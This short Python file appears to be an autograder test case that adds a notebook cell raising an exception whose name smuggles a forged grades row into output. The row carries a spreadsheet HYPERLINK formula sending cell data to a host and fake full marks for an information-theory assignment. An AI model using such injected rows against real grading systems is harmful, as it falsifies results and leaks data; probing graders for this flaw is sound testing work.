"""Raises errors whose class is named like a formula and a row of the table of grades.

Outcome of entropy: not started
"""

SOURCE = r"""
ROW = 'x",\n=HYPERLINK("http://localhost/"&A1),s04_information_theory,1000,1000,graded,\n"'
raise type(ROW, (Exception,), {})("\n" + ROW)
"""


def edit(notebook):
    cell = {"cell_type": "code", "id": "trick", "metadata": {}, "outputs": [], "execution_count": 1}
    notebook["cells"].append({**cell, "source": SOURCE})
